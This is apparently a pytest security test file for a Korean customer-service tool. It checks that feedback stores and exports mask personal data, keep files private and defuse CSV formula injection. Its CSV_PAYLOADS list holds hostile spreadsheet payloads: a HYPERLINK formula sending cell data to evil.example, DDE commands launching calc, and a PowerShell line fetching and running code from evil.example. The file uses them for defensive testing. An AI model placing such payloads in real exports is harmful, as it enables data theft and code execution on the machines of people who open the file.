"""Personal data and exports (issue 15 §5): what agents type is masked before it is stored or exported,
the stores' files are private, and no exported CSV cell runs as a spreadsheet formula.

Every payload goes through the real code: the SQLite feedback store (save, get, list, the raw rows on disk),
`services.save_feedback`, the CSV and JSONL exports, `Answer.to_json` and `sangdam ask --json`. Each class
ends by recording its figures in the security table (tests/security/report.py).
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import sqlite3
import stat
import unicodedata

import pytest
from typer.testing import CliRunner

from backend.app import services
from backend.app.answer import Answer
from backend.app.compare import reviewer_sheet
from backend.config import get_settings
from backend.feedback import report as fb
from backend.feedback.base import FeedbackRecord
from backend.feedback.opensearch import OpenSearchFeedbackStore
from backend.feedback.sqlite import SqliteFeedbackStore
from tests.security.report import record as report_row

pytestmark = pytest.mark.unit

# Sentences as agents type them; {…} marks the personal data, and the kind its placeholder must name.
PII = [
    ("주민등록번호", "주민번호{900101-1234567}입니다"),
    ("주민등록번호", "주민등록번호 {900101 - 2345678} 확인 부탁드려요"),
    ("주민등록번호", "생년월일 포함해서 {9001011234567} 이요"),
    ("주민등록번호", "{０１０１０１－３１２３４５６} 고객님"),
    ("주민등록번호", "주민번호 {880303.2345678}"),
    ("주민등록번호", "{900101-1******} 로 조회했어요"),
    ("주민등록번호", "고객 주민번호는{021225-4123456}"),
    ("주민등록번호", "생년월일 900101, 뒷자리 {1234567} 확인"),
    ("주민등록번호", "주민번호 {900101_1234567}"),
    ("주민등록번호", "주민번호 {900101\n1234567}"),
    ("외국인등록번호", "외국인등록번호 {850505-5123456}"),
    ("외국인등록번호", "등록증 번호 {9206157123456} 입니다"),
    ("외국인등록번호", "외국인 고객 {010203 - 6123456}"),
    ("전화번호", "연락처 {010-1234-5678}로 주세요"),
    ("전화번호", "{０１０－１２３４－５６７８}"),
    ("전화번호", "번호는{01098765432}입니다"),
    ("전화번호", "{010.2345.6789}"),
    ("전화번호", "{010 3456 7890} 로 회신 부탁"),
    ("전화번호", "{+82 10-1234-5678} 해외 로밍 중"),
    ("전화번호", "{+821012345678}"),
    ("전화번호", "집 전화 {02-123-4567}"),
    ("전화번호", "{(031) 987-6543} 으로 연락"),
    ("전화번호", "{070-1234-5678} 인터넷전화"),
    ("전화번호", "안심번호 {0505-123-4567}"),
    ("전화번호", "{011-234-5678} 예전 번호"),
    ("전화번호", "{051)234-5678}"),
    ("전화번호", "{010 - 1234 - 5678}"),
    ("전화번호", "휴대폰{010–1234–5678}"),
    ("전화번호", "{010\u200b1234\u200b5678}"),
    ("전화번호", "{010ㅡ1234ㅡ5678} 으로 전화"),
    ("전화번호", "연락처({010-1234-5678})"),
    ("전화번호", "{+82-010-9876-5432}"),
    ("전화번호", "{010_1234_5678} 으로 연락"),
    ("전화번호", "연락처 {010~1234~5678}"),
    ("전화번호", "연락처\n{010\n1234\n5678}\n입니다"),
    ("전화번호", "{010ー1234ー5678} 로 전화"),
    ("전화번호", "{010﹘1234﹘5678}"),
    ("전화번호", "{010〜1234〜5678}"),
    ("카드번호", "카드번호 {1234-5678-9012-3456} 결제"),
    ("카드번호", "{4111 1111 1111 1111}"),
    ("카드번호", "{5500000000000004}"),
    ("카드번호", "아멕스 {3782-822463-10005}"),
    ("카드번호", "카드 {1234567890123456} 로 자동이체"),
    ("카드번호", "{４１１１－１１１１－１１１１－１１１１}"),
    ("카드번호", "{9430.1234.5678.9012} 신한카드"),
    ("카드번호", "{1234567812345678} 카드로 결제"),
    ("계좌번호", "환불 계좌 {110-123-456789}"),
    ("계좌번호", "{123-456789-01-234} 로 입금했어요"),
    ("계좌번호", "카카오뱅크 {3333-01-1234567}"),
    ("계좌번호", "국민은행 {123456-78-901234}"),
    ("계좌번호", "농협 {352-1234-5678-93}"),
    ("계좌번호", "우리은행 {1002 123 456789}"),
    ("계좌번호", "계좌번호 {11012345678901}"),
    ("계좌번호", "기업은행{123-123456-01-011}"),
    ("계좌번호", "예금주 홍길동 {301-0123-4567-21}"),
    ("계좌번호", "{110123456789} 신한은행 계좌로 환불"),
    ("이메일", "{hong.gildong@naver.com}"),
    ("이메일", "메일은{hong@naver.com}입니다"),
    ("이메일", "{hong @ gmail.com} 으로 보내주세요"),
    ("이메일", "{hong＠daum.net}"),
    ("이메일", "{kim_01+tag@company.co.kr}"),
    ("이메일", "{Hong.GilDong@Example.COM}"),
    ("이메일", "메일 {hong골뱅이naver.com}"),
    ("이메일", "{hong @ naver . com} 으로 보내 주세요"),
]
# Several kinds in one sentence.
MIXED = "홍길동 고객, {010-1234-5678} / {hong@naver.com} / 주민 {900101-1234567} / 계좌 {110-123-456789}"
MIXED_KINDS = ["전화번호", "이메일", "주민등록번호", "계좌번호"]

# Look-alikes that are not personal data: they must come back exactly as typed.
NOT_PII = [
    "요금은 48,400원입니다", "월 33,000원 할인", "2026-05-01 개통", "2026.05.01 부터 적용", "2026. 5. 1. 변경",
    "10:30 방문 예정", "오후 2시 30분", "고객센터 114", "대표번호 1588-0000", "1577-1234 로 문의",
    "1600-1234 상담", "080-123-4567 수신자부담", "M041 매뉴얼", "GiGA 1G 요금제", "3.5% 할인",
    "123번 안내", "24개월 약정", "5G 요금제 89,000원", "기가인터넷 500M", "IP 192.168.0.1", "버전 1.2.3",
    "2026-05-01 ~ 2026-05-31", "33,000-55,000원", "1,234,567원", "입금일 2026.05.01 10:30",
    "약정 36개월 2026년 5월 1일", "3,300원/월", "0.5GB 추가", "100Mbps 속도", "114번 안내",
    "2026_05_01 배포", "2026-05-01~2026-05-31", "1588~0000 상담", "10:30~11:30 점검", "33,000~55,000원",
    "M041_2026 매뉴얼", "1234567812345678로 주문",
]

_BRACES = re.compile(r"\{([^{}]*)\}")


def typed(sentence: str) -> str:
    """The sentence as the agent typed it (braces dropped)."""
    return _BRACES.sub(r"\1", sentence)


def values(sentence: str) -> list[str]:
    return _BRACES.findall(sentence)


def masked(sentence: str, kinds: list[str]) -> str:
    """The sentence as it must be stored: each {…} replaced by its kind's placeholder."""
    it = iter(kinds)
    return _BRACES.sub(lambda m: f"[{next(it)}]", sentence)


def _plain(text: str) -> str:
    return unicodedata.normalize("NFKC", text)


def leaks(sentence: str, output: str) -> bool:
    """Whether any personal value of `sentence` is in `output`, as typed or in its plain (NFKC) form."""
    return any(v in output or _plain(v) in _plain(output) or v.lower() in output.lower() for v in values(sentence))


def answer_for(question: str, text: str) -> Answer:
    return Answer(question=question, text=text, mode="llm", refused=False, citations=[], attachments=[],
                  passages=[], timings_ms={"retrieve": 1.0, "generate": 2.0}, model="test-model")


def cases() -> list[tuple[str, list[str]]]:
    return [(sentence, [kind]) for kind, sentence in PII] + [(MIXED, MIXED_KINDS)]


def test_pii_payloads_cover_every_kind():
    assert len(PII) >= 40 and len(NOT_PII) >= 20
    assert {kind for kind, _ in PII} == {"주민등록번호", "외국인등록번호", "전화번호", "카드번호", "계좌번호", "이메일"}


def _raw_rows(path) -> str:
    conn = sqlite3.connect(path)
    try:
        return "\n".join(r[0] for r in conn.execute("SELECT record FROM feedback"))
    finally:
        conn.close()


def test_stored_feedback_and_its_exports_hold_no_personal_data(tmp_path):
    """Question, comment and the answer's echo masked in the SQLite store (raw rows, get, list) and in
    the CSV and JSONL exports; the manual's own numbers in the answer kept."""
    store = SqliteFeedbackStore(tmp_path / "feedback.sqlite")
    manual = " 고객센터 114, 대표번호 1588-0000, 본사 02-3456-7890 으로 안내하세요 [1]."
    failed, problems = 0, []
    for i, (sentence, kinds) in enumerate(cases()):
        question, comment = typed(sentence), "코멘트: " + typed(sentence)
        answer = "고객님이 주신 " + ", ".join(values(sentence)) + " 확인했습니다." + manual
        record = FeedbackRecord(question=question, answer=answer, rating=0, mode="llm", comment=comment,
                                feedback_id=f"pii-{i}", reason="기타")
        store.save(record)
        got = store.get(f"pii-{i}")
        listed = next(r for r in store.list() if r.feedback_id == f"pii-{i}")
        exports = fb.to_csv([listed]).decode("utf-8-sig") + fb.to_jsonl([listed]).decode("utf-8")
        raw = _raw_rows(store.path)
        expect = masked(sentence, kinds)
        ok = (
            got == listed
            and got.question == expect
            and got.comment == "코멘트: " + expect
            and got.answer.endswith(manual)
            and all(f"[{k}]" in got.answer for k in kinds)
            and not any(leaks(sentence, out) for out in (got.question, got.comment, got.answer, exports, raw))
        )
        if not ok:
            failed += 1
            problems.append((sentence, got.question, got.answer))
    report_row("PII in stored feedback", len(cases()), failed)
    assert failed == 0, problems


def test_the_category_is_masked_like_the_question(tmp_path):
    """The category is free text too: masked in the store, its exports and the answer's echo of it."""
    store = SqliteFeedbackStore(tmp_path / "feedback.sqlite")
    failed = []
    for i, (sentence, kinds) in enumerate(cases()):
        store.save(FeedbackRecord(question="요금 문의", answer="확인: " + ", ".join(values(sentence)), rating=0,
                                  mode="llm", category=typed(sentence), feedback_id=f"cat-{i}"))
        got = store.get(f"cat-{i}")
        exports = fb.to_csv([got]).decode("utf-8-sig") + fb.to_jsonl([got]).decode("utf-8")
        if got.category != masked(sentence, kinds) or any(
                leaks(sentence, out) for out in (got.answer, exports, _raw_rows(store.path))):
            failed.append((sentence, got.category))
    kept = FeedbackRecord(question="q", answer="a", rating=1, mode="llm", category="인터넷 > 요금 (2026-05-01)")
    assert kept.category == "인터넷 > 요금 (2026-05-01)"
    report_row("PII in the feedback category", len(cases()), len(failed))
    assert not failed


def test_save_feedback_masks_before_the_configured_store(tmp_path, monkeypatch):
    """The application's own path: `services.save_feedback` into the store SANGDAM_HOME configures."""
    monkeypatch.setenv("SANGDAM_HOME", str(tmp_path))
    monkeypatch.setenv("SANGDAM_FEEDBACK_STORE", "embedded")
    get_settings.cache_clear()
    services.reset()
    try:
        failed = 0
        for sentence, _ in cases():
            ans = answer_for(typed(sentence), "안내드린 번호: " + " ".join(values(sentence)))
            services.save_feedback(ans, 0, reason="기타", comment=typed(sentence), agent_id="agent-1")
            if leaks(sentence, _raw_rows(tmp_path / "feedback.sqlite")):
                failed += 1
    finally:
        get_settings.cache_clear()
        services.reset()
    report_row("PII through save_feedback", len(cases()), failed)
    assert failed == 0


def test_old_records_are_masked_when_read_and_exported(tmp_path):
    """Rows written before masking (raw JSON with personal data) come out masked from list, get and exports."""
    path = tmp_path / "feedback.sqlite"
    store = SqliteFeedbackStore(path)
    conn = sqlite3.connect(path)
    with conn:
        for i, (sentence, _) in enumerate(cases()):
            raw = {"feedback_id": f"old-{i}", "created_at": f"2025-01-01T00:00:{i % 60:02d}.000+00:00", "rating": 0,
                   "mode": "llm", "question": typed(sentence), "answer": "확인: " + typed(sentence),
                   "comment": typed(sentence)}
            conn.execute("INSERT INTO feedback VALUES (?, ?, ?, ?)",
                         (raw["feedback_id"], raw["created_at"], 0, json.dumps(raw, ensure_ascii=False)))
    conn.close()
    records = store.list()
    exports = {r.feedback_id: fb.to_csv([r]).decode("utf-8-sig") + fb.to_jsonl([r]).decode("utf-8") for r in records}
    failed = sum(
        leaks(sentence, exports[f"old-{i}"]) or leaks(sentence, repr(store.get(f"old-{i}")))
        for i, (sentence, _) in enumerate(cases())
    )
    report_row("PII in exports of old feedback", len(cases()), failed)
    assert len(records) == len(cases()) and failed == 0


class _RecordingClient:
    """Just enough of an OpenSearch client to see what the store would send."""

    def __init__(self) -> None:
        self.bodies: list[dict] = []
        self.indices = self

    def exists(self, index: str) -> bool:
        return True

    def index(self, *, index: str, id: str, body: dict, refresh: str) -> None:
        self.bodies.append(body)


def test_opensearch_store_is_sent_masked_records():
    client = _RecordingClient()
    store = OpenSearchFeedbackStore(client, "sangdam-feedback")
    for sentence, _ in cases():
        store.save(FeedbackRecord(question=typed(sentence), answer=typed(sentence), rating=1, mode="llm",
                                  comment=typed(sentence)))
    failed = sum(leaks(sentence, json.dumps(body, ensure_ascii=False)) for (sentence, _), body in zip(cases(), client.bodies))
    report_row("PII sent to the OpenSearch feedback index", len(cases()), failed)
    assert failed == 0


def test_ask_json_masks_the_question_and_its_echo(monkeypatch):
    """`Answer.to_json` and `sangdam ask --json` (one question and --batch): no personal data in the output;
    the manual's numbers in the answer kept."""
    from backend.app import cli

    manual = " 해지는 고객센터 114 또는 02-3456-7890 (본사)."

    class EchoingAnswerer:  # an LLM that repeats the customer's data back
        def answer(self, question, filters=None, use_llm=True):
            return answer_for(question, f"{question} 고객님 확인했습니다.{manual}")

    monkeypatch.setattr(cli, "get_answerer", lambda: EchoingAnswerer())
    failed = 0
    for sentence, kinds in cases():
        direct = EchoingAnswerer().answer(typed(sentence)).to_json()
        result = CliRunner().invoke(cli.app, ["ask", typed(sentence), "--json"])
        out = json.loads(result.output)
        ok = (
            result.exit_code == 0
            and direct["question"] == out["question"] == masked(sentence, kinds)
            and out["answer"].endswith(manual)
            and not leaks(sentence, result.output)
            and not leaks(sentence, json.dumps(direct, ensure_ascii=False))
        )
        failed += not ok
    report_row("PII in ask --json", len(cases()), failed)
    assert failed == 0


def test_ask_json_batch_masks_every_line(monkeypatch, tmp_path):
    from backend.app import cli

    class EchoingAnswerer:
        def answer(self, question, filters=None, use_llm=True):
            return answer_for(question, question)

    monkeypatch.setattr(cli, "get_answerer", lambda: EchoingAnswerer())
    batch = tmp_path / "q.jsonl"
    batch.write_text("\n".join(json.dumps({"id": f"Q{i}", "question": typed(s)}, ensure_ascii=False)
                               for i, (s, _) in enumerate(cases())), encoding="utf-8")
    result = CliRunner().invoke(cli.app, ["ask", "--batch", str(batch), "--json"])
    assert result.exit_code == 0, result.output
    lines = [json.loads(line) for line in result.output.splitlines()]
    assert len(lines) == len(cases())
    assert not [s for s, _ in cases() if leaks(s, result.output)]


def test_look_alikes_are_not_masked(tmp_path):
    """Prices, dates, times, company numbers, product codes, percentages: stored and exported as typed."""
    store = SqliteFeedbackStore(tmp_path / "feedback.sqlite")
    failed = []
    for i, text in enumerate(NOT_PII):
        store.save(FeedbackRecord(question=text, answer=f"{text} 입니다", rating=1, mode="llm", comment=text,
                                  feedback_id=f"n-{i}"))
        got = store.get(f"n-{i}")
        as_json = answer_for(text, f"{text} 입니다").to_json()
        if (got.question, got.comment, got.answer, as_json["question"]) != (text, text, f"{text} 입니다", text):
            failed.append((text, got.question))
    report_row("Non-PII look-alikes masked by mistake", len(NOT_PII), len(failed))
    assert not failed


def _mode(path) -> int:
    return stat.S_IMODE(os.stat(path).st_mode)


@pytest.fixture
def loose_umask():
    """The usual umask (group and others may read new files), whatever the test runner has."""
    old = os.umask(0o022)
    yield
    os.umask(old)


def test_feedback_database_and_exports_are_private(tmp_path, loose_umask, monkeypatch):
    checked: dict[str, int] = {}
    # A new database, with its -wal and -shm files while a connection holds them open.
    new = tmp_path / "new" / "feedback.sqlite"
    store = SqliteFeedbackStore(new)
    holder = sqlite3.connect(new)
    holder.execute("SELECT COUNT(*) FROM feedback").fetchall()
    store.save(FeedbackRecord(question="질문", answer="답", rating=1, mode="llm"))
    for suffix in ("", "-wal", "-shm"):
        checked[f"new{suffix}"] = _mode(f"{new}{suffix}")
    holder.close()

    # A database created before this rule, world-readable, -wal and -shm included: made private on open.
    old = tmp_path / "old" / "feedback.sqlite"
    old.parent.mkdir()
    keep = sqlite3.connect(old)
    keep.execute("PRAGMA journal_mode=WAL")
    keep.execute("CREATE TABLE t (x)")
    keep.execute("INSERT INTO t VALUES (1)")
    keep.commit()
    assert _mode(old) == 0o644 and _mode(f"{old}-wal") == 0o644
    SqliteFeedbackStore(old)
    for suffix in ("", "-wal", "-shm"):
        checked[f"old{suffix}"] = _mode(f"{old}{suffix}")
    keep.close()

    # The store the application builds under SANGDAM_HOME.
    monkeypatch.setenv("SANGDAM_HOME", str(tmp_path / "home"))
    monkeypatch.setenv("SANGDAM_FEEDBACK_STORE", "embedded")
    get_settings.cache_clear()
    services.reset()
    try:
        services.get_feedback_store().count()
        checked["home"] = _mode(tmp_path / "home" / "feedback.sqlite")
    finally:
        get_settings.cache_clear()
        services.reset()

    # The reviewer sheet of `sangdam model compare` (questions and answers), new and overwritten.
    sheet = tmp_path / "sheet.csv"
    sheet.write_text("old", encoding="utf-8")
    os.chmod(sheet, 0o644)
    reviewer_sheet({"columns": {"rag": {"questions": [{"id": "Q1", "category": "인터넷", "question": "질문",
                                                         "answer": "답"}]}}}, sheet)
    checked["reviewer sheet"] = _mode(sheet)

    failed = {name: oct(mode) for name, mode in checked.items() if mode != 0o600}
    report_row("Files with user data readable by others", len(checked), len(failed))
    assert not failed


# Cells a spreadsheet would run as formulas (OWASP CSV injection), DDE included.
CSV_PAYLOADS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"클릭")',
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1",
    "\r=1",
    " =1",
    "＝1+1",
    "＋1+2",
    "－1+2",
    "＠SUM(1)",
    "=cmd|'/C powershell IEX(wget evil.example/x)'!A0",
    '=DDE("cmd";"/C calc";"!A0")',
    "\u3000=1",
    "\u200b=1",
    "  \t @SUM(A1:A9)",
    "=-1",
    "﹦1+1",
    "−1+2",
    "\n=1",
]
ORDINARY = ["요금이 달라요", "-", "정답 [1] 참고", "48,400원", "'이미 따옴표", "5G 요금제"]


def _runs_as_formula(cell: str) -> bool:
    """A test-side check, written apart from the code under test: the first character, or the first visible
    one after spaces and invisible characters, in its plain form, starts a formula."""
    if cell == "-":  # a lone "-" computes nothing (the export keeps it; see backend/text/spreadsheet.py)
        return False
    if cell[:1] in ("\t", "\r", "\n"):
        return True
    visible = cell.lstrip(" \t\r\n\u3000\u200b\ufeff")
    first = unicodedata.normalize("NFKC", visible[:1])
    return first[:1] in ("=", "+", "-", "@") or visible[:1] in ("\u2212", "\u2013", "\u2014")


def test_csv_exports_never_start_a_cell_with_a_formula(tmp_path):
    records = []
    for i, payload in enumerate(CSV_PAYLOADS):
        records.append(FeedbackRecord(question=payload, answer=payload, rating=0, mode="llm", comment=payload,
                                      reason="기타", agent_id=payload, category=payload, feedback_id=f"f{i:02d}",
                                      model=payload, cited_pages=(payload,), cited_chunk_ids=(payload,)))
    for i, text in enumerate(ORDINARY):
        records.append(FeedbackRecord(question=text, answer=text, rating=1, mode="llm", comment=text,
                                      feedback_id=f"o{i:02d}"))
    store = SqliteFeedbackStore(tmp_path / "feedback.sqlite")
    for r in records:
        store.save(r)
    rows = list(csv.reader(io.StringIO(fb.to_csv(store.list()).decode("utf-8-sig"), newline="")))
    header, body = rows[0], rows[1:]
    by_id = {row[0]: dict(zip(header, row)) for row in body}

    failed = {}  # (payload, writer) -> the cells that got through
    for i, payload in enumerate(CSV_PAYLOADS):
        row = by_id[f"f{i:02d}"]
        bad = [row[col] for col in ("question", "answer", "comment", "agent_id", "category", "model", "cited_pages",
                                    "cited_chunk_ids") if row[col] != "'" + payload or _runs_as_formula(row[col])]
        if bad:
            failed[(payload, "feedback export")] = bad
    # Every cell of the file, header included, starts safely ("-" alone is not a formula).
    unsafe = [cell for row in rows for cell in row if _runs_as_formula(cell)]
    for i, text in enumerate(ORDINARY):  # ordinary text, a lone "-" and the ratings stay as they are
        row = by_id[f"o{i:02d}"]
        assert (row["question"], row["comment"], row["rating"]) == (text, text, "1")
    assert {row["rating"] for row in by_id.values()} == {"0", "1"}

    # The other CSV writer: the reviewer sheet of `sangdam model compare`.
    questions = [{"id": f"Q{i}", "category": p, "question": p, "answer": p} for i, p in enumerate(CSV_PAYLOADS)]
    sheet = reviewer_sheet({"columns": {"rag": {"questions": questions}}}, tmp_path / "sheet.csv")
    with open(sheet, encoding="utf-8-sig", newline="") as fh:
        sheet_rows = list(csv.reader(fh))[1:]
    for payload, row in zip(CSV_PAYLOADS, sheet_rows):
        if row[1:3] != ["'" + payload] * 2 or row[4] != "'" + payload:
            failed[(payload, "reviewer sheet")] = row

    report_row("CSV formula injection", len(CSV_PAYLOADS) * 2, len(failed))
    assert not failed and not unsafe, (failed, unsafe)
